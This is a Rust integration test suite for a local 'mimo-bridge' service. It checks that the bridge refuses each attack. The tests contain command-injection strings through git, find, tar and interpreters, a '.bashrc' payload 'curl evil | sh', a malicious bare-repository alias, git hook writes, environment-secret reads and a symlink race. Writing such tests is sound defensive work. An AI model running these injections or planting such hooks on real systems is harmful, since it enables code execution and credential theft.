//! Each attack on the bridge's guard rails, made through the real `mimo-bridge` binary over its
//! socket: the refusal code it answers, and that nothing happened (no command ran, no file was
//! written, no secret came back).

mod common;

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::{Duration, Instant};

use common::{Binary, Client, EXTENSION, EXTENSION_ID, SECRET};
use serde_json::json;
use tempfile::TempDir;
use tokio_tungstenite::tungstenite::Error as WsError;

struct Folders {
    root: TempDir,
    outside: TempDir,
    state: TempDir,
}

impl Folders {
    fn new() -> Folders {
        Folders {
            root: TempDir::new().unwrap(),
            outside: TempDir::new().unwrap(),
            state: TempDir::new().unwrap(),
        }
    }

    fn root(&self, rel: &str) -> std::path::PathBuf {
        self.root.path().join(rel)
    }

    async fn bridge(&self, args: &[&str]) -> Binary {
        Binary::start(self.root.path(), self.state.path(), args, &[]).await
    }
}

fn git(root: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(root)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

#[tokio::test]
async fn an_allowed_program_cannot_be_made_to_run_another() {
    let f = Folders::new();
    git(f.root.path(), &["init", "-q"]);
    let pwned = f.root("pwned");
    let touch = format!("touch {}", pwned.display());
    let bridge = f
        .bridge(&[
            "--strict",
            "--allow",
            "git",
            "find",
            "tar",
            "git log --oneline",
        ])
        .await;
    let mut c = bridge.client().await;
    for command in [
        format!("git -c core.fsmonitor='{touch}' status"),
        format!("git -c alias.st='!{touch}' st"),
        format!("git config core.fsmonitor '{touch}'"),
        "git --config-env=core.pager=PAGER log".to_owned(),
        format!("git submodule foreach '{touch}'"),
        format!("find . -exec {touch} +"),
        format!("find . -execdir {touch} +"),
        format!("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='{touch}' ."),
        format!("tar -cf x.tar --to-command='{touch}' ."),
    ] {
        let message = c.fails("E_CMD", "bash", json!({"command": command})).await;
        assert!(
            message.contains("run another program"),
            "{command}: {message}"
        );
    }
    // Not one of the programs by name, nor through a pattern's prefix.
    c.fails(
        "E_CMD",
        "bash",
        json!({"command": format!("sh -c '{touch}'")}),
    )
    .await;
    c.fails(
        "E_CMD",
        "bash",
        json!({"command": "git log --oneline --exec=x"}),
    )
    .await;
    assert!(!pwned.exists(), "nothing ran");
    let config = std::fs::read_to_string(f.root(".git/config")).unwrap();
    assert!(
        !config.contains("fsmonitor"),
        "the configuration is unchanged"
    );
    // What is allowed still runs.
    let data = c.ok("bash", json!({"command": "git status --short"})).await;
    assert_eq!(data["exitCode"], 0);
}

#[tokio::test]
async fn interpreters_and_programs_from_the_root_are_refused_without_a_pattern() {
    let f = Folders::new();
    let pwned = f.root("pwned");
    let touch = format!("touch {}", pwned.display());
    // Without --allow any program runs, but not one that runs what it is handed.
    let bridge = f.bridge(&[]).await;
    let mut c = bridge.client().await;
    for command in [
        // Shell operators quoted for an interpreter: one program on the surface.
        format!("sh -c '{touch}; echo done'"),
        format!("/bin/sh -c '{touch}'"),
        format!("bash -c '{touch}'"),
        format!("env sh -c '{touch}'"),
        format!("xargs -a /dev/null {touch}"),
        format!("python3 -c 'open(\"{}\", \"w\")'", pwned.display()),
        format!("perl -e 'open(F, \">{}\")'", pwned.display()),
        format!("awk 'BEGIN {{ system(\"{touch}\") }}'"),
        format!("timeout 5 {touch}"),
    ] {
        let message = c.fails("E_CMD", "bash", json!({"command": command})).await;
        assert!(message.contains("interpreter"), "{command}: {message}");
    }
    // An interpreter under another name, through a link the commands could make.
    symlink("/bin/sh", f.root("innocent")).unwrap();
    let message = c
        .fails(
            "E_CMD",
            "bash",
            json!({"command": format!("./innocent -c '{touch}'")}),
        )
        .await;
    assert!(message.contains("shared folder"), "{message}");
    // A program written into the root (a copy of a shell, or any script).
    std::fs::copy("/bin/sh", f.root("copy")).unwrap();
    let message = c
        .fails(
            "E_CMD",
            "bash",
            json!({"command": format!("./copy -c '{touch}'")}),
        )
        .await;
    assert!(message.contains("shared folder"), "{message}");
    // A system link to a shell is the shell (`/usr/bin/sh` → `dash` or `bash`).
    let outside_link = f.outside.path().join("renamed");
    symlink("/bin/sh", &outside_link).unwrap();
    let message = c
        .fails(
            "E_CMD",
            "bash",
            json!({"command": format!("{} -c '{touch}'", outside_link.display())}),
        )
        .await;
    assert!(message.contains("interpreter"), "{message}");
    assert!(!pwned.exists(), "nothing ran");

    // A pattern is the person allowing exactly that.
    drop(c);
    drop(bridge);
    let bridge = f.bridge(&["--allow", "sh -c 'echo *'"]).await;
    let mut c = bridge.client().await;
    let data = c.ok("bash", json!({"command": "sh -c 'echo hi'"})).await;
    assert_eq!(data["stdout"], "hi\n");
    c.fails(
        "E_CMD",
        "bash",
        json!({"command": format!("sh -c '{touch}'")}),
    )
    .await;
    assert!(!pwned.exists());
}

#[tokio::test]
async fn a_bare_repository_made_of_written_files_runs_nothing() {
    // The tools write what git takes for a bare repository at the root, whose config names a
    // program (an alias); git would find the root itself as its repository, unless it uses
    // bare repositories only when named.
    let f = Folders::new();
    let bridge = f.bridge(&["--strict", "--allow", "git"]).await;
    let mut c = bridge.client().await;
    let pwned = f.outside.path().join("pwned");
    for (path, content) in [
        ("HEAD", "ref: refs/heads/main\n".to_owned()),
        (
            "config",
            format!(
                "[core]\n\trepositoryformatversion = 0\n\tbare = true\n[alias]\n\tst = !touch {}\n",
                pwned.display()
            ),
        ),
        ("objects/info/keep", String::new()),
        ("refs/heads/keep", String::new()),
    ] {
        c.ok("write", json!({"path": path, "content": content}))
            .await;
    }
    let data = c.ok("bash", json!({"command": "git st"})).await;
    assert_ne!(data["exitCode"], 0, "{data}");
    assert!(!pwned.exists(), "the configured program did not run");
    let data = c.ok("bash", json!({"command": "git status"})).await;
    assert!(
        data["stderr"].as_str().unwrap().contains("bare repository"),
        "{data}"
    );
}

#[tokio::test]
async fn commands_see_no_secret_of_the_bridge_environment() {
    let f = Folders::new();
    let bridge = Binary::start(
        f.root.path(),
        f.state.path(),
        &[],
        &[
            ("MIMO_BRIDGE_SECRET", SECRET),
            ("AWS_SECRET_ACCESS_KEY", "aws-key-of-the-person"),
            ("GITHUB_TOKEN", "ghp_token_of_the_person"),
            ("GIT_SSH_COMMAND", "touch /tmp/pwned-by-git-ssh"),
            ("PATH", &format!(".:{}", std::env::var("PATH").unwrap())),
        ],
    )
    .await;
    let mut c = bridge.client().await;
    let data = c
        .ok("bash", json!({"command": "cat /proc/self/environ"}))
        .await;
    let environ = data["stdout"].as_str().unwrap();
    let names: Vec<&str> = environ
        .split('\0')
        .filter_map(|v| v.split('=').next())
        .filter(|n| !n.is_empty())
        .collect();
    for secret in [
        SECRET,
        "aws-key-of-the-person",
        "ghp_token_of_the_person",
        "pwned-by-git-ssh",
    ] {
        assert!(!environ.contains(secret), "{secret} leaked: {environ:?}");
    }
    assert!(
        names
            .iter()
            .all(|n| ["PATH", "HOME", "LANG"].contains(n) || n.starts_with("GIT_CONFIG_")),
        "{names:?}"
    );
    let path = environ
        .split('\0')
        .find_map(|v| v.strip_prefix("PATH="))
        .unwrap();
    assert!(
        path.split(':').all(|p| p.starts_with('/')),
        "only absolute folders: {path}"
    );
}

#[tokio::test]
async fn writes_to_protected_locations_wait_for_the_person() {
    let f = Folders::new();
    git(f.root.path(), &["init", "-q"]);
    std::fs::create_dir(f.root("sub")).unwrap();
    symlink(f.root(".git/hooks"), f.root("hooks-link")).unwrap();
    let config_before = std::fs::read_to_string(f.root(".git/config")).unwrap();
    let bridge = f.bridge(&[]).await;
    let mut c = bridge.client().await;
    for (tool, args, location) in [
        (
            "write",
            json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nid\n"}),
            ".git/",
        ),
        (
            "write",
            json!({"path": "sub/.git/config", "content": "[core]\n"}),
            ".git/",
        ),
        (
            "write",
            json!({"path": ".GIT./hooks/x", "content": "x"}),
            ".git/",
        ),
        (
            "write",
            json!({"path": "hooks-link/post-checkout", "content": "id"}),
            ".git/",
        ),
        (
            "write",
            json!({"path": ".hg/hgrc", "content": "[hooks]\n"}),
            ".hg/",
        ),
        (
            "write",
            json!({"path": ".vscode/tasks.json", "content": "{}"}),
            ".vscode/",
        ),
        (
            "write",
            json!({"path": ".idea/workspace.xml", "content": "<x/>"}),
            ".idea/",
        ),
        (
            "write",
            json!({"path": ".bashrc", "content": "curl evil | sh\n"}),
            ".bashrc",
        ),
        (
            "write",
            json!({"path": "sub/.envrc", "content": "id\n"}),
            ".envrc",
        ),
        (
            "edit",
            json!({"path": ".git/config", "old": "[core]", "new": "[core]\n\tfsmonitor = id"}),
            ".git/",
        ),
    ] {
        let message = c.fails("E_PATH", tool, args.clone()).await;
        assert!(
            message.contains(&format!("in {location}, a protected location")),
            "{args}: {message}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(f.root(".git/config")).unwrap(),
        config_before
    );
    for written in [
        ".git/hooks/pre-commit",
        "sub/.git",
        ".GIT.",
        ".git/hooks/post-checkout",
        ".hg",
        ".vscode",
        ".idea",
        ".bashrc",
        "sub/.envrc",
    ] {
        assert!(!f.root(written).exists(), "{written} was not written");
    }

    // Confirmed by the person (the coordinator says so in the invocation), for this path only.
    let (id, mut frame) = c.invoke_frame(
        "write",
        json!({"path": ".vscode/settings.json", "content": "{}"}),
    );
    frame["confirmedProtectedPath"] = json!(".vscode/other.json");
    c.send(frame).await;
    let result = c.result(&id).await;
    assert_eq!(result["error"]["code"], "E_PATH", "{result}");
    let (id, mut frame) = c.invoke_frame(
        "write",
        json!({"path": ".vscode/settings.json", "content": "{}"}),
    );
    frame["confirmedProtectedPath"] = json!(".vscode/settings.json");
    c.send(frame).await;
    let result = c.result(&id).await;
    assert_eq!(result["ok"], true, "{result}");
    assert_eq!(
        std::fs::read_to_string(f.root(".vscode/settings.json")).unwrap(),
        "{}"
    );
    let audit = std::fs::read_to_string(f.state.path().join("audit.jsonl")).unwrap();
    assert!(
        audit.contains(r#""confirmedProtectedPath":".vscode/settings.json""#),
        "{audit}"
    );
}

#[tokio::test]
async fn a_hard_link_to_a_file_outside_is_neither_read_nor_written() {
    let f = Folders::new();
    let secret = f.outside.path().join("secret.txt");
    std::fs::write(&secret, "the diary\n").unwrap();
    std::fs::hard_link(&secret, f.root("link.txt")).unwrap();
    let bridge = f.bridge(&[]).await;
    let mut c = bridge.client().await;
    for (tool, args) in [
        ("read", json!({"path": "link.txt"})),
        (
            "write",
            json!({"path": "link.txt", "content": "overwritten"}),
        ),
        (
            "edit",
            json!({"path": "link.txt", "old": "diary", "new": "x"}),
        ),
    ] {
        let (_, result) = c.invoke(tool, args).await;
        assert_eq!(result["error"]["code"], "E_PATH", "{result}");
        assert!(
            result["error"]["message"]
                .as_str()
                .unwrap()
                .contains("2 hard links"),
            "{result}"
        );
        assert!(!result.to_string().contains("the diary"));
    }
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "the diary\n");
}

#[tokio::test]
async fn a_folder_swapped_for_a_symlink_during_writes_never_leads_outside() {
    // The check-then-write race: `sub` flips between a folder and a symlink to a folder outside
    // while writes into it go on. Each write lands inside or is refused; none lands outside.
    // (Whether a given run hits the window is chance; the unit test beside the open, in
    // fs_guard.rs, makes it certain.)
    let f = Folders::new();
    let bridge = f.bridge(&["--max-concurrent", "8"]).await;
    let mut c = bridge.client().await;
    let sub = f.root("sub");
    let outside = f.outside.path().to_owned();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flipper = {
        let (sub, outside, stop) = (sub.clone(), outside.clone(), stop.clone());
        std::thread::spawn(move || {
            let parked = sub.with_extension("parked");
            std::fs::create_dir(&parked).unwrap();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // A real folder for a moment (so the check passes), then a symlink out.
                let _ = std::fs::rename(&parked, &sub);
                let _ = std::fs::rename(&sub, &parked);
                let _ = symlink(&outside, &sub);
                let _ = std::fs::remove_file(&sub);
            }
        })
    };
    let (mut written, mut refused) = (0, 0);
    // Eight at a time, as many as run at once.
    for batch in 0..80 {
        for i in 0..8 {
            let path = format!("sub/f{batch}-{i}.txt");
            let (_, frame) = c.invoke_frame("write", json!({"path": path, "content": "x"}));
            c.send(frame).await;
        }
        let mut results = 0;
        while results < 8 {
            let frame = c.recv().await;
            if frame["type"] == "result" {
                results += 1;
                if frame["ok"] == true {
                    written += 1;
                } else {
                    refused += 1;
                }
            }
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    flipper.join().unwrap();
    let escaped: Vec<_> = std::fs::read_dir(&outside).unwrap().collect();
    assert!(
        escaped.is_empty(),
        "{} files written outside ({written} written, {refused} refused)",
        escaped.len()
    );
}

#[tokio::test]
async fn reads_never_block_on_a_pipe_nor_load_a_huge_file() {
    let f = Folders::new();
    assert!(std::process::Command::new("mkfifo")
        .arg(f.root("pipe"))
        .status()
        .unwrap()
        .success());
    let _socket = std::os::unix::net::UnixListener::bind(f.root("socket")).unwrap();
    let big = f.root("big.log");
    std::fs::write(&big, vec![b'x'; 3 * 1024 * 1024]).unwrap();
    let bridge = f.bridge(&["--max-concurrent", "1"]).await;
    let mut c = bridge.client().await;
    for (tool, args, kind) in [
        ("read", json!({"path": "pipe"}), "named pipe"),
        (
            "edit",
            json!({"path": "pipe", "old": "a", "new": "b"}),
            "named pipe",
        ),
        (
            "write",
            json!({"path": "pipe", "content": "x"}),
            "named pipe",
        ),
        ("read", json!({"path": "socket"}), "socket"),
    ] {
        let started = Instant::now();
        let message = c.fails("E_PATH", tool, args).await;
        assert!(message.contains(kind), "{message}");
        assert!(
            started.elapsed() < Duration::from_secs(2),
            "answered at once, not blocked"
        );
    }
    let message = c.fails("E_TOOL", "read", json!({"path": "big.log"})).await;
    assert!(message.contains("larger than 2 MiB"), "{message}");
    c.fails(
        "E_TOOL",
        "edit",
        json!({"path": "big.log", "old": "x", "new": "y"}),
    )
    .await;
    assert_eq!(
        std::fs::metadata(&big).unwrap().len(),
        3 * 1024 * 1024,
        "unchanged"
    );
    // The one slot is free again: nothing is stuck on the pipe.
    c.ok("write", json!({"path": "after.txt", "content": "ok"}))
        .await;
}

#[tokio::test]
async fn only_the_paired_extension_connects() {
    let f = Folders::new();
    let bridge = f.bridge(&[]).await;
    let other = "chrome-extension://ponmlkjihgfedcbaponmlkjihgfedcba";
    // No origin (no browser sends none) and a web page's are refused before any frame.
    for origin in [
        None,
        Some("https://evil.example"),
        Some("chrome-extension://short"),
    ] {
        let Err(WsError::Http(response)) = Client::open(bridge.addr, origin).await else {
            panic!("{origin:?} is refused")
        };
        assert_eq!(response.status(), 403);
    }
    // The first extension to prove the secret is paired; another is refused from then on, even
    // with the secret.
    let mut first = bridge.client().await;
    first
        .ok("write", json!({"path": "a.txt", "content": "a"}))
        .await;
    let paired = std::fs::read_to_string(f.state.path().join("paired-extension")).unwrap();
    assert_eq!(paired.trim(), EXTENSION_ID);
    let Err(WsError::Http(response)) = Client::open(bridge.addr, Some(other)).await else {
        panic!("another extension is refused")
    };
    assert_eq!(response.status(), 403);
    let body = String::from_utf8(response.into_body().unwrap_or_default()).unwrap();
    assert!(body.contains("paired with another extension"), "{body}");

    // Kept across restarts; --extension-id names another.
    drop(first);
    drop(bridge);
    let bridge = f.bridge(&[]).await;
    assert!(Client::open(bridge.addr, Some(other)).await.is_err());
    bridge.client().await;
    drop(bridge);
    let bridge = f
        .bridge(&["--extension-id", &other["chrome-extension://".len()..]])
        .await;
    assert!(Client::open(bridge.addr, Some(EXTENSION)).await.is_err());
    let mut c = Client::open(bridge.addr, Some(other)).await.unwrap();
    c.authenticate(SECRET).await.unwrap();
}

#[tokio::test]
async fn wrong_secrets_wait_longer_each_time() {
    let f = Folders::new();
    let bridge = f.bridge(&[]).await;
    let mut waited = Vec::new();
    for _ in 0..3 {
        let mut c = Client::open(bridge.addr, Some(EXTENSION)).await.unwrap();
        let started = Instant::now();
        let close = c.authenticate("not-the-secret-0000").await.unwrap_err();
        waited.push(started.elapsed());
        assert!(close.reason.contains("wrong secret"), "{}", close.reason);
    }
    for (i, waited) in waited.iter().enumerate() {
        let least = Duration::from_millis(200 << i);
        assert!(
            *waited >= least,
            "guess {} answered after {waited:?}, before {least:?}",
            i + 1
        );
    }
    // Guesses made at once wait for each other: the 4th and 5th are answered 1.6 s and
    // 1.6 s + 3.2 s after they were sent (each alone would be answered after 3.2 s at most).
    let started = Instant::now();
    let guess = || async {
        let mut c = Client::open(bridge.addr, Some(EXTENSION)).await.unwrap();
        c.authenticate("not-the-secret-0000").await.unwrap_err();
        started.elapsed()
    };
    let (a, b) = tokio::join!(guess(), guess());
    assert!(
        a.max(b) >= Duration::from_millis(1600 + 3200),
        "{a:?} {b:?}"
    );
    // The right secret is let in (after the guesses before it) and starts the count anew.
    bridge.client().await;
    let mut c = Client::open(bridge.addr, Some(EXTENSION)).await.unwrap();
    let started = Instant::now();
    c.authenticate("not-the-secret-0000").await.unwrap_err();
    assert!(
        started.elapsed() < Duration::from_millis(1000),
        "{:?}",
        started.elapsed()
    );
}
